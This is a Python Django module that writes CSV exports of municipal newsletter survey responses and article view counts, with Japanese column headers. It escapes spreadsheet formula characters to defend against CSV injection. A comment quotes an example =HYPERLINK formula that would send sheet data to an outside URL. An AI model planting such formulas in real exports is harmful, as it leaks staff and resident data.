"""CSV exports shared by the staff dashboard and `kohoshi survey_export`."""
import csv
from datetime import date

from django.utils import timezone

from kohoshi.accounts.policy import Action, require

from .models import ArticleDailyViews, SurveyResponse

SURVEY_COLUMNS = [
    "回答ID", "回答日時", "自治体コード", "広報紙", "号", "発行日", "記事番号", "記事タイトル",
    "役に立ちましたか", "わかりやすさ", "ご意見・ご感想", "年代", "お住まいの地域",
]
VIEWS_COLUMNS = ["日付", "自治体コード", "広報紙", "号", "記事番号", "記事タイトル", "閲覧数"]

# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection"):
# a reader's comment =HYPERLINK("https://…?d="&A1, …) would send the sheet's data away when a
# staff member opens the export. Such text gets a leading apostrophe and stays text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _FormulaSafeWriter:
    """csv.writer whose text cells never start a formula: every export writes through it."""

    def __init__(self, out):
        self._writer = csv.writer(out)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])


def csv_writer(out) -> _FormulaSafeWriter:
    return _FormulaSafeWriter(out)


def survey_responses_csv(municipality, out, *, by, since: date | None = None) -> int:
    """Write the municipality's survey responses, oldest first, to `out`; returns the row count."""
    require(by, municipality, Action.EXPORT)
    writer = csv_writer(out)
    writer.writerow(SURVEY_COLUMNS)
    responses = SurveyResponse.objects.for_municipality(municipality).with_article().order_by("created_at", "pk")
    if since:
        responses = responses.filter(created_at__date__gte=since)
    n = 0
    for r in responses.iterator(chunk_size=2000):
        issue = r.article.issue
        writer.writerow([
            r.pk, timezone.localtime(r.created_at).strftime("%Y-%m-%d %H:%M:%S"), r.municipality_id,
            issue.newsletter.title, issue.number or issue.title, issue.published_on.isoformat(),
            r.article.number, r.article.title, r.helpful, r.clarity, r.comment, r.age_band, r.area,
        ])
        n += 1
    return n


def article_views_csv(municipality, out, *, by, since: date | None = None) -> int:
    """Daily views per article, one row per article and day."""
    require(by, municipality, Action.EXPORT)
    writer = csv_writer(out)
    writer.writerow(VIEWS_COLUMNS)
    rows = (
        ArticleDailyViews.objects.for_municipality(municipality)
        .select_related("article__issue__newsletter")
        .order_by("day", "article__issue__published_on", "article__issue_id", "article__position")
    )
    if since:
        rows = rows.filter(day__gte=since)
    n = 0
    for row in rows.iterator(chunk_size=2000):
        article = row.article
        issue = article.issue
        writer.writerow([
            row.day.isoformat(), municipality.code, issue.newsletter.title, issue.number or issue.title,
            article.number, article.title, row.views,
        ])
        n += 1
    return n
